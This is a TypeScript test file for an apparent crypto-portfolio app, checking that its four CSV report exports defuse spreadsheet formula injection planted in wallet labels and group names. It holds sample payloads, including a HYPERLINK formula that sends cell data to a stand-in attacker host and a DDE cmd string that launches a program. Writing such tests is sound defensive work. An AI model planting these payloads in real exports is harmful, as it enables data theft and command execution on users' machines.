// Labels and group names are user text: no export may turn them into live spreadsheet formulas.
import { describe, expect, it } from 'vitest';
import type { ExportFile } from '../shared/views';
import { testBackend } from './test/backend';
import { useTempDirs } from './test/temp-dir';

const tempDir = useTempDirs();

const HOSTILE = ['=HYPERLINK("http://e.vil/?"&A1,"M")', "@SUM(1+1)*cmd|' /C calc'!A0", '+1+1', '-2+3'];

describe('CSV formula injection', () => {
  // The cell rules themselves: shared/csv.test.ts.
  it('the PnL CSV through the backend carries hostile wallet labels and groups as text', async () => {
    const backend = testBackend(tempDir());
    const addresses = [
      '5F4tQyWrhfGVcNhoqeiNsR6KjD4wMZ2kfhLj4oHYuyHbZAc3',
      '5HK5tp6t2S59DywmHRWPBVJeJ86T61KjurYqeooqj8sREpeN',
      '5GrwvaEF5zXb26Fz9rcQpDWS57CtERHpNehXCPcNoHGKutQY',
      '5FHneW46xGXgs5mUiveU4sbTyGBzmstUspZC92UhjJM694ty',
    ];
    for (const [i, address] of addresses.entries()) {
      const added = await backend.dispatch('wallets:add', { address, label: HOSTILE[i]!, group: HOSTILE[3 - i]! });
      expect('data' in added).toBe(true);
    }
    for (const format of ['pnl-csv', 'events-csv', 'koinly-csv', 'cointracker-csv'] as const) {
      const response = await backend.dispatch('reports:export', { format });
      if (!('data' in response)) throw new Error(response.error.message);
      const { content } = response.data as ExportFile;
      // No line has a cell that starts with a formula character (after an optional quote).
      for (const line of content.split('\r\n').filter((l) => l && !l.startsWith('#'))) {
        for (const cell of line.match(/("([^"]|"")*"|[^,]*)(,|$)/g) ?? []) {
          expect(cell.replace(/^"/, ''), `${format}: ${line}`).not.toMatch(/^[=+@\t]|^-(?!\d+(\.\d+)?,?$)/);
        }
      }
      if (format === 'pnl-csv') for (const label of HOSTILE) expect(content).toContain(`'${label.split('"')[0]}`);
    }
    await backend.sync.close();
    backend.close();
  });
});
